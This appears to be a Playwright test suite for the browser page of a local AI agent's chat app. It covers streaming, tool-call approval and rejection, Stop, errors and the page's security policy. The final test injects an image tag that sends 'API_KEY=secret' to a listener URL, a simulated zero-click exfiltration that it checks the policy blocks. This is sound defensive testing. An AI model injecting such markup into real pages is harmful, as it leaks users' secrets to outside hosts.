"""The real page in headless Chromium: streaming, live tool arguments, approval, Stop, errors, the page's policy.

One Chromium serves the whole file; each test gets a browser context of its own, lent cleared (no cookies and no
localStorage, so its own owner key; tests/ui/conftest.py, `OwnersBrowser`), against a fresh app and scripted model
server.
Chats beyond one answer (reloads, restarts, the chat list) are in test_browser_chats.py, and what the page says
before the first answer in test_browser_start.py: both use these fixtures.
"""

import re
import time

import pytest

from tests.ui.conftest import CHROMIUM, first_moment_showing, open_app, send

if not CHROMIUM.exists():
    pytest.skip(f"browser tests need Chromium at {CHROMIUM} (apt-get install chromium)", allow_module_level=True)

from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.scripted_ollama import Drop, Text, Turn, reply, tool_call_text

VIEWPORT = {"width": 1280, "height": 900}

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser(chromium: Browser) -> Browser:
    """The shared Chromium fixture (tests/ui/conftest.py), under the name these tests and their importers use."""
    return chromium


def new_context(browser: Browser) -> BrowserContext:
    return browser.new_context(viewport=VIEWPORT)


@pytest.fixture
def context(browser: Browser) -> BrowserContext:
    return new_context(browser)


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def chat_text(page: Page) -> str:
    return page.locator("#chat").inner_text()


def assert_stops_growing(page: Page, *, settle: float = 0.6) -> str:
    """The chat's text is the same before and after `settle` seconds; returns it."""
    before = chat_text(page)
    time.sleep(settle)  # nothing to wait *for*: the point is that nothing arrives
    after = chat_text(page)
    assert after == before, "the chat kept changing after it should have stopped"
    return after


def numbered_words(count: int) -> str:
    """`w0001 w0002 …`: a long answer whose growth and end are easy to see."""
    return " ".join(f"w{i:04d}" for i in range(1, count + 1))


def test_a_streamed_answer_appears(running_app, page):
    running_app.ollama.script(reply("Purr. Everything in your workspace looks tidy.", chunk_size=3, delay=0.01))
    open_app(page, running_app.url)
    send(page, "how are things?")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("how are things?")
    expect(chat).to_contain_text("Purr. Everything in your workspace looks tidy.")
    expect(page.locator("#msg textarea")).to_have_value("")
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#approve")).to_be_hidden()


def test_partial_tool_arguments_show_while_the_call_streams(running_app, page):
    lines = [f"note {i:03d}: cats sleep sixteen hours a day" for i in range(50)]  # ~2.3 KB
    content = "\n".join(lines)
    running_app.ollama.script(
        Turn(
            Text("I'll write your notes now.\n"),
            Text(tool_call_text("write_file", {"path": "notes.md", "content": content})),
            chunk_size=8,
            delay=0.05,  # ~300 lines: the whole call takes about 15 s to arrive
        )
    )
    open_app(page, running_app.url)
    started = time.perf_counter()
    send(page, "write my notes to notes.md")
    chat = page.locator("#chat")
    # The panel shows the newest lines only: wait for its count, which stays, then read that one moment.
    moment = first_moment_showing(page, r"Writing notes\.md… (\d+) lines? so far", counting=4)
    seen_after = time.perf_counter() - started
    assert re.search(r"note \d{3}: cats sleep sixteen hours a day", moment.chat)  # whole lines, as they come
    # Still streaming: the end of the call has not arrived, nothing waits for approval, the answer runs.
    assert seen_after < 10, f"partial arguments appeared only after {seen_after:.1f} s"
    assert lines[-1] not in moment.chat
    assert moment.shown == {"stop"}
    assert len(running_app.ollama.chat_requests) == 1
    # Don't wait 15 s for the rest: stop it, and the half-written call never runs.
    page.locator("#stop").click()
    expect(chat).to_contain_text("Stopped")
    assert running_app.ollama.wait_for_disconnects(1)
    assert not (running_app.workspace / "notes.md").exists()


def test_approve_runs_the_command_and_its_output_reaches_the_model(running_app, page):
    running_app.ollama.script(
        Turn(
            Text("Let me work that out with the shell.\n"),
            Text(tool_call_text("run_shell", {"command": "echo meow-$((6*7))"})),
        ),
        reply("The shell says meow-42, so the answer is 42."),
    )
    open_app(page, running_app.url)
    send(page, "what is 6 times 7, the shell way?")
    card = page.locator("#approval").first  # Gradio puts the group's id on two nested divs
    expect(card).to_be_visible()
    expect(card).to_contain_text("Run this command")
    expect(page.locator("#card_details textarea")).to_have_value("echo meow-$((6*7))")
    expect(page.locator("#chat")).to_contain_text("Run echo meow-$((6*7))")
    page.locator("#approve").click()
    expect(page.locator("#chat")).to_contain_text("the answer is 42")
    expect(page.locator("#approve")).to_be_hidden()
    expect(card).to_be_hidden()
    tool_message = running_app.ollama.chat_requests[-1]["messages"][-1]
    assert "meow-42" in tool_message["content"]


def test_allow_for_this_chat_says_what_it_allows_for_each_tool(running_app, page):
    """Issue 12: the button names the file, the host or the exact command; the box shows where typing applies."""
    running_app.ollama.script(
        Text(tool_call_text("write_file", {"path": "notes.md", "content": "hi"})),
        Text(tool_call_text("web_fetch", {"url": "https://example.org/page"})),
    )
    open_app(page, running_app.url)
    send(page, "write it")
    expect(page.locator("#approve_chat")).to_have_text("✅ Allow writing notes.md for this chat")
    expect(page.locator("#scope_prefix")).to_contain_text("a whole folder or a pattern")
    page.locator("#approve_chat").click()
    expect(page.locator("#approve_chat")).to_have_text("✅ Allow reading pages from example.org for this chat")
    expect(page.locator("#scope_prefix")).to_be_hidden()  # nothing to type for a fetch
    assert (running_app.workspace / "notes.md").read_text() == "hi"


def test_reject_does_not_run_and_the_reason_reaches_the_model(running_app, page):
    running_app.ollama.script(
        Turn(Text("I'll make the file.\n"), Text(tool_call_text("run_shell", {"command": "touch made.txt"}))),
        reply("Understood, I left it alone."),
    )
    open_app(page, running_app.url)
    send(page, "make a file")
    expect(page.locator("#approve")).to_be_visible()
    page.locator("#reason textarea").fill("not on a Sunday")
    page.locator("#reject").click()
    expect(page.locator("#chat")).to_contain_text("Understood, I left it alone.")
    expect(page.locator("#approve")).to_be_hidden()
    assert not (running_app.workspace / "made.txt").exists()
    tool_message = running_app.ollama.chat_requests[-1]["messages"][-1]
    assert "not on a Sunday" in tool_message["content"]


def test_stop_halts_a_slow_stream(running_app, page):
    running_app.ollama.script(
        reply(numbered_words(3_000), chunk_size=6, delay=0.01),  # ~30 s if nobody stops it
        reply("Fresh answer after the stop."),
    )
    open_app(page, running_app.url)
    send(page, "count for me")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("w0040")
    # The message box shows the answer is coming, with a border that stays still (a pulse redrawn 60 times a second
    # took about 0.1 of a core from a model on the same CPU: docs/benchmarks.md).
    busy = page.locator("#msg .generating")
    expect(busy).to_be_visible()
    assert busy.evaluate("element => getComputedStyle(element).animationName") == "none"
    page.locator("#stop").click()
    expect(chat).to_contain_text("Stopped")
    assert running_app.ollama.wait_for_disconnects(1)
    shown = assert_stops_growing(page)
    assert "w2999" not in shown
    expect(page.locator("#stop")).to_be_hidden()
    send(page, "anything else?")
    expect(chat).to_contain_text("Fresh answer after the stop.")


def test_stop_ends_an_approved_slow_command(running_app, page):
    running_app.ollama.script(
        Turn(Text("This will take a while.\n"), Text(tool_call_text("run_shell", {"command": "sleep 100"}))),
        reply("Okay, after the stop."),
    )
    open_app(page, running_app.url)
    send(page, "wait for a long time")
    page.locator("#approve").click()
    stop = page.locator("#stop")
    expect(stop).to_be_visible()
    stop.click()
    chat = page.locator("#chat")
    expect(chat).to_contain_text("stopped by the person")  # long before the command's 100 s
    expect(stop).to_be_hidden()
    send(page, "and now?")
    expect(chat).to_contain_text("Okay, after the stop.")


def test_a_dropped_stream_shows_a_plain_error_and_keeps_the_partial_answer(running_app, page):
    running_app.ollama.script(Turn(Text("partial answer"), Drop()))
    open_app(page, running_app.url)
    send(page, "tell me everything")
    chat = page.locator("#chat")
    expect(chat).to_contain_text("connection closed before it was finished")
    expect(chat).to_contain_text("partial answer")
    expect(page.locator("#stop")).to_be_hidden()
    assert "Traceback" not in page.locator("body").inner_text()
    assert "Traceback" not in page.content()


def test_the_page_works_under_its_policy_and_an_injected_image_sends_nothing(running_app, page, listener):
    """Issue 13's zero-click leak, at the last line of defence: even markup that slipped into the page loads nothing."""
    running_app.ollama.script(reply("Purr."))
    violations = []
    page.on(
        "console",
        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
    )
    open_app(page, running_app.url)
    send(page, "hello")
    expect(page.locator("#chat")).to_contain_text("Purr.")
    assert violations == []  # Gradio's own page needs nothing the policy refuses
    stored = page.evaluate("JSON.stringify(Object.entries(localStorage))")
    assert "run-history" not in stored
    assert "hello" not in stored  # the typed message is nowhere in the browser's storage
    blocked = page.evaluate(
        """url => new Promise(resolve => {
            document.addEventListener("securitypolicyviolation", event => resolve(event.blockedURI), {once: true});
            const image = document.createElement("img");
            image.src = url;
            document.querySelector("#chat").appendChild(image);
        })""",
        listener.url + "/leak?API_KEY=secret",
    )
    assert blocked.startswith(listener.url)
    expect(page.locator("#chat")).to_contain_text("Purr.")  # still responsive
    assert listener.requests == []
